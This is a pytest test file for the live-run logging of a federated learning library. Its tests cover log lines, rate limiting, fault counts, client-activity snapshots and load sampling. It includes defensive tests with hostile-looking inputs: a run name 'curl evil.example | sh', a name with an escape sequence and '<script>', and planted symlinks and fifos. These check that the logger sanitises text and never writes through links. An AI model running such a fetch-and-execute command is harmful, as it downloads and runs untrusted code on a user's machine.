"""What a run says of itself as it goes: a log, who is at work, the load; and that none of it changes anything."""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

import polyrhythm as pr
import small
from polyrhythm.experiments import run as of_run
from polyrhythm.runs import live as of_live
from polyrhythm.runs.at_work import AtWork
from polyrhythm.runs.live import LOG, NOW, SAMPLES, Live
from polyrhythm.runs.load import Load, load
from polyrhythm.runs.observer import Observer
from records import plan, version, visit


class Clock:
    """Seconds that pass when they are told to."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def lines(folder: Path) -> list[str]:
    """The log without its times."""
    return [line.split("  ", 1)[1] for line in (folder / LOG).read_text().splitlines()]


def told(folder: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((folder / NOW).read_text())
    return found


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def begun(tmp_path: Path, clock: Clock) -> Live:
    found = Live(lambda: tmp_path, clock)
    found.begin(plan())
    return found


def test_a_log_says_what_began_and_how_it_ended(tmp_path: Path, begun: Live) -> None:
    begun.version(version(0, 0.1), dict)
    begun.end("stopped", "Ctrl-C\nand more", {})
    assert lines(tmp_path) == [
        "start    trial: fedavg(cohort=2) on digits, 4 clients, seed 3, inline",
        "notice   two samples unused",
        "version  0: accuracy 0.1000, 0 client updates, 0 virtual s",
        "end      stopped: Ctrl-C and more",
    ]


def test_versions_are_told_at_a_bounded_rate_and_the_last_one_always(tmp_path: Path, begun: Live, clock: Clock) -> None:
    for number in range(1000):
        clock.now += 0.1
        begun.version(version(number, 0.5), dict)
    begun.end("finished", "all rounds made", {})
    told = [line for line in lines(tmp_path) if line.startswith("version")]
    assert 45 <= len(told) <= 51
    assert told[-1].startswith("version  999:")


def test_a_run_of_a_month_has_a_short_log(tmp_path: Path, begun: Live, clock: Clock) -> None:
    for number in range(20_000):
        clock.now += 130.0
        begun.version(version(number, 0.5), dict)
    assert (tmp_path / LOG).stat().st_size < 1_000_000


def test_a_log_has_an_end_however_much_there_is_to_say(
    tmp_path: Path, begun: Live, monkeypatch: pytest.MonkeyPatch, clock: Clock
) -> None:
    monkeypatch.setattr(of_live, "_LONGEST", 1000)
    for number in range(100):
        clock.now += 100.0
        begun.version(version(number, 0.5), dict)
    begun.end("finished", "all rounds made", {})
    assert (tmp_path / LOG).stat().st_size < 1200
    assert lines(tmp_path)[-1] == "end      finished: all rounds made"


def test_faults_are_counted_and_told_with_the_next_version(tmp_path: Path, begun: Live, clock: Clock) -> None:
    for number in range(3):
        begun.visit(visit(number, status="lost", fault="dropout"))
    begun.visit(visit(3, status="dropped", fault="nan"))
    begun.visit(visit(4))
    begun.version(version(1, 0.5), dict)
    assert "fault    3 dropout, 1 nan" in lines(tmp_path)


def test_text_of_a_log_is_one_line_of_printable_characters(tmp_path: Path, clock: Clock) -> None:
    live = Live(lambda: tmp_path, clock)
    live.begin(plan(name="a\nb\x1b[31m<script>", notices=("one\ntwo\r\n",)))
    live.end("failed", "x", {})
    text = (tmp_path / LOG).read_text()
    assert text.count("\n") == 3
    assert text.replace("\n", "").isprintable()


def test_who_is_at_work_is_told_now_and_then(tmp_path: Path, begun: Live, clock: Clock) -> None:
    asked = []

    def there() -> Sequence[AtWork]:
        asked.append(clock.now)
        return [AtWork(client=n, dispatch=n, version=1, since=0.5) for n in range(100)]

    for _ in range(100):
        clock.now += 0.01
        begun.at_work(2.0, there)
    assert 3 <= len(asked) <= 5
    assert (told(tmp_path)["many"], told(tmp_path)["time"], len(told(tmp_path)["clients"])) == (100, 2.0, of_live.SHOWN)
    assert told(tmp_path)["clients"][0] == [0, 0, 1, 0.5]
    begun.end("finished", "", {})
    assert not (tmp_path / NOW).exists()  # nobody is, and no load was looked at


def test_the_load_is_sampled_every_some_seconds_and_kept_short(
    tmp_path: Path, begun: Live, clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(of_live, "load", lambda: Load(2.0 * (clock.now - 1000.0), 10**9))
    begun._last = Load(0.0, 0)
    for _ in range(60):
        clock.now += 1.0
        begun.at_work(0.0, list)
    found = told(tmp_path)["load"]
    assert [sample[0] for sample in found] == pytest.approx([5.0 * n for n in range(1, 13)])
    assert all(sample[1:] == [2.0, 10**9] for sample in found)
    for _ in range(1500):
        clock.now += 6.0
        begun.at_work(0.0, list)
    assert len(told(tmp_path)["load"]) <= SAMPLES
    begun.end("finished", "", {})
    assert told(tmp_path)["many"] == 0
    again = Live(lambda: tmp_path, clock)
    again.begin(plan())
    clock.now += 6.0
    again.at_work(0.0, list)
    later = told(tmp_path)["load"]
    assert later[-1][0] == pytest.approx(later[-2][0] + 6.0, abs=1.0)  # it goes on where it stopped


def test_the_load_is_that_of_this_process() -> None:
    before = load()
    end = time.process_time() + 0.2
    while time.process_time() < end:
        pass
    after = load()
    assert before is not None
    assert after is not None
    assert 0.1 < after.seconds - before.seconds < 10
    assert after.bytes > 10_000_000


def test_what_cannot_be_written_disturbs_no_run(tmp_path: Path, clock: Clock) -> None:
    live = Live(lambda: tmp_path / "gone", clock)
    live.begin(plan())
    live.version(version(0, 0.5), dict)
    live.at_work(0.0, list)
    live.end("finished", "", {})
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX files")
@pytest.mark.parametrize("way", ["link", "hard link", "pipe", "folder"])
def test_a_log_is_written_nowhere_else(tmp_path: Path, clock: Clock, way: str) -> None:
    """In a run's folder that comes from elsewhere, and is gone on with, its name may stand for a file of yours."""
    folder, yours = tmp_path / "run", tmp_path / "yours"
    folder.mkdir()
    yours.write_text("mine\n")
    if way == "link":
        (folder / LOG).symlink_to(yours)
    elif way == "hard link":
        os.link(yours, folder / LOG)
    elif way == "pipe":
        os.mkfifo(folder / LOG)
    else:
        (folder / LOG).mkdir()
    (folder / NOW).symlink_to(yours)
    live = Live(lambda: folder, clock)
    live.begin(plan(name="curl evil.example | sh"))
    clock.now += 10
    live.at_work(0.0, list)
    live.end("finished", "", {})
    assert yours.read_text() == "mine\n"


def test_a_run_has_a_log_and_says_who_is_at_work(tmp_path: Path) -> None:
    seen = []

    class Looks(Observer):
        def at_work(self, time: float, visits: Any) -> None:
            seen.append((time, visits()))

    run = pr.run(small.experiment(rounds=4), out=tmp_path, observers=[Looks()])
    told = lines(run.path)
    assert told[0].startswith("start    fedavg on blobs, 4 clients")
    assert told[-2].startswith("version  4: accuracy")
    assert told[-1] == "end      finished: all rounds made"
    visits = run.visits
    for time_, there in seen:
        assert len({one.dispatch for one in there}) == len(there)
        for one in there:
            row = visits.loc[one.dispatch]
            assert (one.client, one.version) == (row["client"], row["version"])
            assert row["started"] == pytest.approx(one.since)
            assert one.since <= time_ <= row["finished"] + 1e-9
    assert max(len(there) for _, there in seen) == 2  # the cohort


@pytest.mark.parametrize("recipe", [pr.fedavg(cohort=2, batch=5), pr.fedbuff(concurrency=3, buffer=2)])
def test_nothing_of_it_changes_a_result(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, recipe: Any) -> None:
    alone, other = tmp_path / "alone", tmp_path / "other"
    with_it = pr.run(small.experiment(recipe=recipe, rounds=5), out=alone)
    monkeypatch.setattr(of_run, "Live", lambda folder: Observer())
    without = pr.run(small.experiment(recipe=recipe, rounds=5), out=other)
    assert not (without.path / LOG).exists()
    same = [{k: v for k, v in run.summary.items() if k not in ("run_id", "wall_seconds")} for run in (with_it, without)]
    assert same[0] == same[1]
    assert with_it.visits.equals(without.visits)


def test_a_resumed_run_goes_on_with_its_log(tmp_path: Path) -> None:
    run = pr.run(small.experiment(rounds=2), out=tmp_path)
    pr.resume(small.experiment(rounds=4), run.id, out=tmp_path)
    told = [line.split()[0] for line in lines(run.path)]
    assert told.count("end") == 2
    assert any(line.startswith("start    goes on from version ") for line in lines(run.path))


@pytest.mark.slow
def test_a_look_costs_less_than_a_thousandth(tmp_path: Path, begun: Live, clock: Clock) -> None:
    """In processor time: what a look takes, at most each quarter of a second."""
    there = [AtWork(client=n, dispatch=n, version=1, since=0.5) for n in range(60)]
    start = os.times()
    for _ in range(200):
        clock.now += 1.0
        begun.at_work(2.0, lambda: there)
    end = os.times()
    assert (end.user + end.system - start.user - start.system) / 200 < 0.01
